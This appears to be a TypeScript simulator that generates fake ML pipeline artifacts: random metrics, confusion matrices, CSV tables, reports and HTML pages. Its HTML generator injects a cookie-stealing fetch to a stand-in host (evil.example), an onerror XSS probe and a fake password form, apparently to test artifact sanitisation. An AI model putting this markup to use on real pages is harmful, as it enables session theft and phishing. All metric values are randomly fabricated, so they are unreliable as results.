import { Buffer } from 'node:buffer';
import type { Json, Random } from '../kernel';
import {
  loggedCategories,
  loggedMetrics,
  type PythonProgram,
} from './pythonProgram';

/** What an output artifact holds; what is all metadata has no file. */
export interface ArtifactContent {
  metadata: Json;
  file?: string | Buffer;
}

/** Everything that a look at the task gives. */
export interface Making {
  task: string;
  key: string;
  program: PythonProgram;
  random: Random;
}

const good = /acc|auc|f1|precision|recall|map|iou|bleu|rouge|score|exact/i;
const bad = /loss|error|rmse|mae|perplex|wer/i;

function metric(name: string, random: Random): number {
  if (good.test(name)) {
    return Number(random.between(0.78, 0.97).toFixed(4));
  }
  if (/perplex/i.test(name)) {
    return Number(random.between(4, 12).toFixed(3));
  }
  if (bad.test(name)) {
    return Number(random.between(0.08, 0.6).toFixed(4));
  }
  return random.integer(100, 9000);
}

function metrics({ program, random }: Making): ArtifactContent {
  const names = loggedMetrics(program);
  return {
    metadata: Object.fromEntries(
      (names.length > 0 ? names : ['accuracy', 'loss']).map(name => [
        name,
        metric(name, random),
      ]),
    ),
  };
}

/** A curve that rises above the diagonal, and a matrix with most of its weight on its own. */
function classification({ program, random }: Making): ArtifactContent {
  const bend = random.between(0.12, 0.3);
  const points = 11;
  const curve = Array.from({ length: points }, (_, index) => {
    const falsePositiveRate = index / (points - 1);
    return {
      confidenceThreshold: Number((1 - falsePositiveRate).toFixed(2)),
      recall: Number((falsePositiveRate ** bend).toFixed(4)),
      falsePositiveRate: Number(falsePositiveRate.toFixed(2)),
    };
  });
  const found = loggedCategories(program);
  const labels = found.length > 0 ? found : ['negative', 'positive'];
  const rows = labels.map((_, own) => ({
    row: labels.map((__, other) =>
      own === other ? random.integer(180, 420) : random.integer(0, 24),
    ),
  }));
  return {
    metadata: {
      confidenceMetrics: curve,
      confusionMatrix: {
        annotationSpecs: labels.map(displayName => ({ displayName })),
        rows,
      },
    },
  };
}

function table({ task, key, random }: Making): ArtifactContent {
  const count = random.integer(40, 120);
  const rows = Array.from({ length: count }, (_, index) =>
    [
      index + 1,
      `${task}-${String(index + 1).padStart(4, '0')}`,
      random.pick(['train', 'train', 'train', 'validation', 'test']),
      random.between(0, 1).toFixed(4),
      random.chance(0.1) ? '' : random.pick(['ok', 'check', '"scratch, deep"']),
    ].join(','),
  );
  return {
    metadata: { rows: count, format: 'csv', source: key },
    file: ['id,name,split,score,label', ...rows, ''].join('\n'),
  };
}

function escape(text: string): string {
  return text.replace(/[&<>"]/g, letter => `&#${letter.charCodeAt(0)};`);
}

/** A page; where the program writes a script into it, so does this. */
function page({ task, key, program, random }: Making): ArtifactContent {
  const isHostile = /<script/i.test(program.source);
  const rows = ['precision', 'recall', 'f1']
    .map(
      name =>
        `<tr><td>${name}</td><td>${random.between(0.8, 0.97).toFixed(3)}</td></tr>`,
    )
    .join('');
  const hostile = isHostile
    ? '<script>document.title = "owned"; fetch("https://evil.example/steal?cookie=" + encodeURIComponent(document.cookie)); parent.location = "https://evil.example/";</script>' +
      '<img src="x" onerror="alert(document.domain)"><form action="https://evil.example/login"><input name="password" type="password"></form>'
    : '';
  return {
    metadata: {},
    file: `<!doctype html><html><head><meta charset="utf-8"><title>${escape(key)}</title><style>body{font-family:sans-serif}td{padding:4px 12px}</style></head><body><h1>${escape(task)}: ${escape(key)}</h1><table>${rows}</table>${hostile}</body></html>\n`,
  };
}

function text({ task, random }: Making): ArtifactContent {
  return {
    metadata: {},
    file: [
      `# ${task}`,
      '',
      `The model was compared with the one in production on **${random.integer(2, 40)},000** examples.`,
      '',
      '| Metric | Before | After |',
      '| --- | ---: | ---: |',
      `| F1 | ${random.between(0.78, 0.86).toFixed(3)} | ${random.between(0.86, 0.94).toFixed(3)} |`,
      `| Latency (ms) | ${random.integer(40, 60)} | ${random.integer(28, 44)} |`,
      '',
      '- [x] data checked',
      '- [ ] approved by the owner',
      '',
    ].join('\n'),
  };
}

function model({ task, random }: Making): ArtifactContent {
  const weights = Buffer.from(random.hex(4096), 'hex');
  return {
    metadata: { framework: 'pytorch', framework_version: '2.13.0', task },
    file: Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), weights]),
  };
}

const makers: Record<string, (making: Making) => ArtifactContent> = {
  'system.Metrics': metrics,
  'system.ClassificationMetrics': classification,
  'system.SlicedClassificationMetrics': classification,
  'system.Dataset': table,
  'system.HTML': page,
  'system.Markdown': text,
  'system.Model': model,
};

/** What a task puts into an output of a type (`system.Model`). */
export function artifactContent(type: string, making: Making): ArtifactContent {
  const make = makers[type];
  return make
    ? make(making)
    : { metadata: {}, file: `${making.task}: ${making.key}\n` };
}
